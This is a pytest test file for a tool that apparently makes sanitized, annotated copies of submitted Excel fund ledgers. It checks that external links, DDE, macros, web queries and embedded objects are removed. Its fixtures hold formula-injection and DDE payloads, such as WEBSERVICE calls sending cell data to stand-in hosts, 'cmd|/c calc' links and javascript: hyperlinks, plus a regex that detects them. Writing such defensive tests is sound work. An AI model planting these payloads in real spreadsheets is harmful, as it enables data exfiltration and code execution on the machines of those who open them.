"""A marked copy opens, fetches and runs nothing of its sender's, and the list says what was taken out."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import python_calamine
import xlsxwriter
from lxml import etree

from analytics.intake.finding import FINDINGS_SHEET
from analytics.intake.returned import anew
from analytics.intake.returned.annotating import annotated
from analytics.intake.returned.references import is_outside
from analytics.intake.submission import examine
from tests.intake.packages import RELATIONS, packed, parts, related
from tests.intake.workbooks import csv_file, entry
from tests.submissions.hostile import PNG, compound_file

#: What must stand nowhere in a copy: a server of the sender's, a program.
SECRET = re.compile(rb"evil|cmd|/c calc|DataMashup|D\0a\0t\0a\0M|vbaProject|192\.0\.2", re.IGNORECASE)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def made(path: Path, *formulas: str, results: bool = True) -> dict[str, bytes]:
    """The parts of a ledger whose amounts are these formulas, each with the result 30,000."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("资金台账")
        rows = [entry(f"A-{number}") for number in range(1, max(len(formulas), 1) + 1)]
        sheet.write_row(0, 0, list(rows[0]))
        for number, row in enumerate(rows, start=1):
            sheet.write_row(number, 0, list(row.values()))
            if formulas:
                value: Any = 30_000 if results else ""
                sheet.write_formula(number, 6, f"={formulas[number - 1]}", None, value)
        sheet.insert_image("K9", "x.png", {"image_data": io.BytesIO(PNG)})
        sheet.write_url("K2", "https://www.lanzhou.gov.cn/", string="")
    return parts(path.read_bytes())


def copy_of(path: Path, content: bytes | None = None, language: str = "zh") -> bytes:
    """The copy of a file, which must be its sender's own workbook."""
    if content is not None:
        path.write_bytes(content)
    findings = examine(path.parent / "snapshots", [path], as_of=date(2016, 12, 31)).findings
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(anew, "written", lambda *_: pytest.fail("written anew"))
        return annotated(path.name, path.read_bytes(), findings, language=language)


def said(copy: bytes) -> list[str]:
    """The notes above the headings of the list."""
    cells = [str(row[0].value) for row in openpyxl.load_workbook(io.BytesIO(copy))[FINDINGS_SHEET]]
    return cells[: next(n for n, cell in enumerate(cells) if cell in ("位置", "Place"))]


def everything(content: bytes) -> bytes:
    """All that stands in a package, names too."""
    return b" ".join(name.encode() + b" " + data for name, data in parts(content).items())


def outside(copy: bytes) -> list[str]:
    """The targets outside the package."""
    return [
        item.get("Target", "")
        for name, data in parts(copy).items()
        if name.endswith(".rels")
        for item in etree.fromstring(data)
        if item.get("TargetMode") == "External"
    ]


def is_whole(copy: bytes) -> bool:
    """Whether every relationship leads to a part, every id to a relationship, and every part has a type."""
    contents = parts(copy)
    types = etree.fromstring(contents["[Content_Types].xml"])
    named = {item.get("PartName", "").lstrip("/") for item in types}
    endings = {item.get("Extension", "").lower() for item in types}
    for name, data in contents.items():
        if not name.endswith((".xml", ".vml")) or name == "[Content_Types].xml":
            continue
        folder, _, last = name.rpartition("/")
        rels = contents.get(f"{folder}/_rels/{last}.rels")
        ids = {item.get("Id") for item in etree.fromstring(rels)} if rels else set()
        used = {
            value
            for element in etree.fromstring(data).iter()
            for key, value in element.attrib.items()
            if key.startswith(f"{{{OFFICE}}}")
        }
        assert used <= ids, (name, used - ids)
    missing = {name for name in named - {""} if name not in contents}
    untyped = {
        name for name in contents if name not in named and name.rpartition(".")[2].lower() not in endings
    } - {"[Content_Types].xml"}
    assert (missing, untyped) == (set(), set())
    return True


FORMULAS = (
    "WEBSERVICE(\"http://192.0.2.1/?\"&A2)",
    "_xlfn.WEBSERVICE(\"http://evil.example/\")",
    'IMAGE("https://evil.example/a.png")',
    'HYPERLINK("http://evil.example/?"&B2,"看")',
    'HYPERLINK("\\\\evil\\share\\a.xlsx")',
    "RTD(\"evil.server\",,\"x\")",
    "cmd|'/c calc'!A0",
    "evil|Sheet1!R1C1",
    "'cmd'|'/c calc'!A0",
    "[1]资金!A1+1",
    "'[1]资金 表'!A1",
    "SUM([1]一月:三月!A1)",
    "[1]!总额",
    "'C:\\evil\\[b.xlsx]资金'!A1",
    "'file:///C:/evil/b.xlsx'#$资金.A1",
    "INDIRECT(\"'file:///evil/b.xlsx'#$资金.A1\")",
    'CUBEVALUE("evil","[a].[b]")',
    'DDE("evil";"calc";"a")',
    'CALL("evil","x","J")',
)  # fmt: skip
INNER = (
    "SUM(A1:A3)",
    "资金台账[金额]",
    "台账[[#This Row],[金额]]*2",
    "SUM(台账[@[金额]:[已用]])",
    "'社区 (一)'!A1",
    "INDIRECT(\"资金台账!A\"&1)",
    'HYPERLINK("#资金台账!A1","看")',
    "'it''s'!A1+B2",
    'IF(A1="a|b","x[1]!y","")',
    "RTDX(1)+MYIMAGE(2)",
    "{1,2}+A1",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_reaches_outside_is_known(formula: str) -> None:
    assert is_outside(formula)
    assert is_outside(f"1+IF(A1>0,{formula},0)")


@pytest.mark.parametrize("formula", INNER)
def test_a_formula_within_the_workbook_is_left_alone(formula: str) -> None:
    assert not is_outside(formula)


def test_formulas_that_reach_outside_become_their_results(tmp_path: Path) -> None:
    made(tmp_path / "a.xlsx", *FORMULAS, "1*30000")
    copy = copy_of(tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(copy))["资金台账"]
    assert [cell.value for cell in sheet["G"]][1:] == [30_000] * len(FORMULAS) + ["=1*30000"]
    assert SECRET.findall(everything(copy)) == []
    assert said(copy) == [f"引用其他文件、程序或网址的公式已替换为计算结果：{len(FORMULAS)}处。"]


def test_such_a_formula_without_a_result_is_shown_as_one_and_found_again(tmp_path: Path) -> None:
    contents = made(tmp_path / "a.xlsx", FORMULAS[0])
    sheet = contents["xl/worksheets/sheet1.xml"].replace(b"<v>30000</v>", b"")
    contents["xl/worksheets/sheet1.xml"] = sheet
    copy = copy_of(tmp_path / "a.xlsx", packed(contents))
    cell = openpyxl.load_workbook(io.BytesIO(copy))["资金台账"]["G2"]
    assert (cell.value, cell.data_type) == ("=…", "s")


def test_shared_formulas_go_together(tmp_path: Path) -> None:
    contents = made(tmp_path / "a.xlsx", "1*1", "1*2", "1*3")
    sheet = contents["xl/worksheets/sheet1.xml"].decode()
    first = '<f t="shared" ref="G2:G3" si="4">[1]x!A1</f>'
    sheet = sheet.replace("<f>1*1</f>", first).replace("<f>1*2</f>", '<f t="shared" si="4"/>')
    contents["xl/worksheets/sheet1.xml"] = sheet.encode()
    copy = copy_of(tmp_path / "a.xlsx", packed(contents))
    column = openpyxl.load_workbook(io.BytesIO(copy))["资金台账"]["G"]
    assert [cell.value for cell in column][1:] == [30_000, 30_000, "=1*3"]


def _typed(contents: dict[str, bytes], name: str, content_type: str, data: bytes) -> None:
    contents[name] = data
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    contents["[Content_Types].xml"] = contents["[Content_Types].xml"].replace(b"</Types>", override)


def _in_workbook(contents: dict[str, bytes], before: bytes, markup: str) -> None:
    contents["xl/workbook.xml"] = contents["xl/workbook.xml"].replace(before, markup.encode() + before)


def _in_sheet(contents: dict[str, bytes], before: bytes, markup: str) -> None:
    sheet = contents["xl/worksheets/sheet1.xml"]
    assert before in sheet
    contents["xl/worksheets/sheet1.xml"] = sheet.replace(before, markup.encode() + before, 1)


def _dde(contents: dict[str, bytes]) -> None:
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd.exe" ddeTopic="/c calc"/></externalLink>'
    _typed(contents, "xl/externalLinks/externalLink1.xml", "application/x", link.encode())
    (one,) = related(
        contents, "xl/workbook.xml", (f"{RELATIONS}/externalLink", "externalLinks/externalLink1.xml", False)
    )
    markup = f'<externalReferences><externalReference r:id="{one}"/></externalReferences>'
    _in_workbook(contents, b"<calcPr", markup)
    names = '<definedNames><definedName name="总额">[1]!evil</definedName></definedNames>'
    _in_workbook(contents, b"<calcPr", names)


def _other_workbook(contents: dict[str, bytes]) -> None:
    link = f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
    _typed(contents, "xl/externalLinks/externalLink1.xml", "application/x", link.encode())
    related(
        contents,
        "xl/externalLinks/externalLink1.xml",
        (f"{RELATIONS}/externalLinkPath", "file:///evil", True),
    )
    (one,) = related(
        contents, "xl/workbook.xml", (f"{RELATIONS}/externalLink", "externalLinks/externalLink1.xml", False)
    )
    markup = f'<externalReferences><externalReference r:id="{one}"/></externalReferences>'
    _in_workbook(contents, b"<calcPr", markup)


def _query(contents: dict[str, bytes]) -> None:
    connection = f'<connections xmlns="{MAIN}"><connection id="1"><webPr url="http://evil"/></connection></connections>'
    _typed(contents, "xl/connections.xml", "application/x", connection.encode())
    query = f'<queryTable xmlns="{MAIN}" name="evil" connectionId="1"/>'
    _typed(contents, "xl/queryTables/queryTable1.xml", "application/y", query.encode())
    related(contents, "xl/workbook.xml", (f"{RELATIONS}/connections", "connections.xml", False))
    related(
        contents,
        "xl/worksheets/sheet1.xml",
        (f"{RELATIONS}/queryTable", "../queryTables/queryTable1.xml", False),
    )


def _power_query(contents: dict[str, bytes]) -> None:
    contents["customXml/item1.xml"] = "<DataMashup>UEsDB</DataMashup>".encode("utf-16")
    related(contents, "xl/workbook.xml", (f"{RELATIONS}/customXml", "../customXml/item1.xml", False))


def _object(contents: dict[str, bytes]) -> None:
    contents["xl/embeddings/oleObject1.bin"] = b"evil"
    types = contents["[Content_Types].xml"]
    default = b'<Default Extension="bin" ContentType="application/x"/></Types>'
    contents["[Content_Types].xml"] = types.replace(b"</Types>", default)
    (one,) = related(
        contents,
        "xl/worksheets/sheet1.xml",
        (f"{RELATIONS}/oleObject", "../embeddings/oleObject1.bin", False),
    )
    inner = f'<oleObject progId="Package" shapeId="1025" r:id="{one}"/>'
    wrapped = (
        '<oleObjects><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="x14" xmlns:x14="urn:x14">{inner}</mc:Choice><mc:Fallback>{inner}</mc:Fallback>'
        "</mc:AlternateContent></oleObjects>"
    )
    _in_sheet(contents, b"</worksheet>", wrapped)


def _linked_picture(contents: dict[str, bytes]) -> None:
    (one,) = related(contents, "xl/drawings/drawing1.xml", (f"{RELATIONS}/image", "file://evil/a.png", True))
    drawing = contents["xl/drawings/drawing1.xml"]
    contents["xl/drawings/drawing1.xml"] = drawing.replace(b"<a:blip ", f'<a:blip r:link="{one}" '.encode())


def _links(contents: dict[str, bytes]) -> None:
    targets = ("file:///C:/evil.xlsx", "\\\\evil\\share", "ftp://evil/", "cmd.exe", "javascript:evil")
    ids = related(
        contents, "xl/worksheets/sheet1.xml", *((f"{RELATIONS}/hyperlink", one, True) for one in targets)
    )
    links = "".join(f'<hyperlink ref="A{n}" r:id="{one}"/>' for n, one in enumerate(ids, start=1))
    _in_sheet(contents, b"</hyperlinks>", links)


def _template(contents: dict[str, bytes]) -> None:
    related(contents, "xl/workbook.xml", (f"{RELATIONS}/attachedTemplate", "http://evil/t.xltx", True))


def _rules(contents: dict[str, bytes]) -> None:
    rules = (
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        "<formula>[1]evil!A1</formula></cfRule></conditionalFormatting>"
        '<dataValidations count="2"><dataValidation type="list" sqref="A1">'
        "<formula1>'file:///evil'!A1</formula1></dataValidation>"
        '<dataValidation type="list" sqref="B1"><formula1>"城关,七里河"</formula1></dataValidation>'
        "</dataValidations>"
    )
    _in_sheet(contents, b"<hyperlinks>", rules)


def _chart(contents: dict[str, bytes]) -> None:
    chart = b"<c:chartSpace xmlns:c='urn:c'><c:f>[1]evil!A1</c:f></c:chartSpace>"
    _typed(contents, "xl/charts/chart1.xml", "application/z", chart)
    related(contents, "xl/drawings/drawing1.xml", (f"{RELATIONS}/chart", "../charts/chart1.xml", False))


def _macro_button(contents: dict[str, bytes]) -> None:
    drawing = contents["xl/drawings/drawing1.xml"]
    contents["xl/drawings/drawing1.xml"] = drawing.replace(b"<xdr:pic>", b'<xdr:pic macro="[0]!evil">')


def _macros(contents: dict[str, bytes]) -> None:
    _typed(contents, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", compound_file(("VBA",)))
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    related(contents, "xl/workbook.xml", (kind, "vbaProject.bin", False))
    types = contents["[Content_Types].xml"]
    contents["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def _link_on_a_picture(contents: dict[str, bytes]) -> None:
    (one,) = related(contents, "xl/drawings/drawing1.xml", (f"{RELATIONS}/hyperlink", "file://evil/a", True))
    drawing = contents["xl/drawings/drawing1.xml"]
    link = f'<a:hlinkClick r:id="{one}" xmlns:r="{OFFICE}" xmlns:a="urn:a"/></xdr:cNvPr>'
    assert b"<xdr:cNvPr " in drawing
    contents["xl/drawings/drawing1.xml"] = re.sub(
        rb"(<xdr:cNvPr [^>]*)/>", lambda found: found[1] + b">" + link.encode(), drawing
    )


def _old_drawing(contents: dict[str, bytes]) -> None:
    contents["xl/drawings/old1.vml"] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        b'<v:shape href="file://evil"><v:imagedata src="\\\\evil\\a.png"/><x:ClientData>'
        b"<x:FmlaLink>[1]evil!A1</x:FmlaLink></x:ClientData></v:shape></xml>"
    )
    types = contents["[Content_Types].xml"]
    default = b'<Default Extension="vml" ContentType="application/x"/></Types>'
    contents["[Content_Types].xml"] = types.replace(b"</Types>", default)
    related(contents, "xl/worksheets/sheet1.xml", (f"{RELATIONS}/vmlDrawing", "../drawings/old1.vml", False))


LINKS = "指向其他文件的链接、数据连接和嵌入对象已移除：{}处。"
#: What is put into a workbook, and what the list says.
REACHING: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "a program by DDE": (_dde, LINKS.format(2)),
    "another workbook": (_other_workbook, LINKS.format(1)),
    "a query to the web": (_query, LINKS.format(2)),
    "Power Query": (_power_query, LINKS.format(1)),
    "an embedded object": (_object, LINKS.format(1)),
    "a linked picture": (_linked_picture, LINKS.format(1)),
    "links to files": (_links, LINKS.format(5)),
    "a template": (_template, LINKS.format(1)),
    "rules": (_rules, LINKS.format(2)),
    "a chart": (_chart, LINKS.format(1)),
    "a button": (_macro_button, "宏已移除。"),
    "a link on a picture": (_link_on_a_picture, LINKS.format(1)),
    "an old drawing": (_old_drawing, LINKS.format(3)),
    "macros": (_macros, "宏已移除。"),
}


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
@pytest.mark.parametrize("kind", REACHING)
def test_what_reaches_outside_is_taken_out_and_the_list_says_so(
    kind: str, suffix: str, tmp_path: Path
) -> None:
    put_in, note = REACHING[kind]
    contents = made(tmp_path / f"a{suffix}")
    put_in(contents)
    before = packed(contents)
    assert SECRET.search(everything(before))
    copy = copy_of(tmp_path / f"a{suffix}", before)
    after = parts(copy)
    assert SECRET.findall(everything(copy)) == []
    assert outside(copy) == ["https://www.lanzhou.gov.cn/"]
    assert said(copy) == [note]
    assert is_whole(copy)
    assert b"sheet.main+xml" in after["[Content_Types].xml"]
    sheets = [python_calamine.load_workbook(io.BytesIO(one)) for one in (before, copy)]
    assert len({str(book.get_sheet_by_name("资金台账").to_python()) for book in sheets}) == 1


def _pivot(contents: dict[str, bytes]) -> None:
    source = '<cacheSource type="external" connectionId="1"/>evil'
    cache = f'<pivotCacheDefinition xmlns="{MAIN}">{source}</pivotCacheDefinition>'
    _typed(contents, "xl/pivotCache/pivotCacheDefinition1.xml", "application/x", cache.encode())


def _data_model(contents: dict[str, bytes]) -> None:
    contents["xl/model/item.data"] = b"evil"


def _web_picture(contents: dict[str, bytes]) -> None:
    part = "xl/richData/rdRichValueWebImage.xml"
    _typed(contents, part, "application/x", b"<webImagesSrd xmlns='urn:x'/>")
    related(contents, part, (f"{RELATIONS}/hyperlink", "https://evil.example/a.png", True))


@pytest.mark.parametrize("put_in", [_pivot, _data_model, _web_picture])
def test_what_cannot_lose_its_source_is_written_anew(
    put_in: Callable[[dict[str, bytes]], None], tmp_path: Path
) -> None:
    contents = made(tmp_path / "a.xlsx")
    put_in(contents)
    copy = annotated("a.xlsx", packed(contents), ())
    assert SECRET.findall(everything(copy)) == []
    assert said(copy) == ["本副本只保留单元格的值，不含公式、图片和格式。请在原文件中更正。"]


def test_a_copy_with_nothing_to_take_out_says_nothing_and_is_whole(tmp_path: Path) -> None:
    made(tmp_path / "a.xlsx", "1*30000")
    copy = copy_of(tmp_path / "a.xlsx")
    assert (said(copy), outside(copy)) == ([], ["https://www.lanzhou.gov.cn/"])
    assert is_whole(copy)


def test_rules_that_stay_within_the_workbook_stay(tmp_path: Path) -> None:
    contents = made(tmp_path / "a.xlsx")
    _rules(contents)
    sheet = openpyxl.load_workbook(io.BytesIO(copy_of(tmp_path / "a.xlsx", packed(contents))))["资金台账"]
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["B1"]
    assert not sheet.conditional_formatting


def test_in_a_copy_written_anew_texts_stay_texts(tmp_path: Path) -> None:
    texts = [f"={FORMULAS[7]}", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil\")", "http://evil.example",
             "\\\\evil\\share", "mailto:a@evil.example", "＝1+1"]  # fmt: skip
    path = csv_file(tmp_path / "a.csv", [entry(text) for text in texts])
    findings = examine(tmp_path / "snapshots", [path], as_of=date(2016, 12, 31)).findings
    copy = annotated(path.name, path.read_bytes(), findings)
    sheet = openpyxl.load_workbook(io.BytesIO(copy))["资金台账"]
    assert [(cell.value, cell.data_type, cell.hyperlink) for cell in sheet["A"]][1:] == [
        (text, "s", None) for text in texts
    ]
    assert outside(copy) == []
    assert said(copy) == ["本副本只保留单元格的值，不含公式、图片和格式。请在原文件中更正。"]
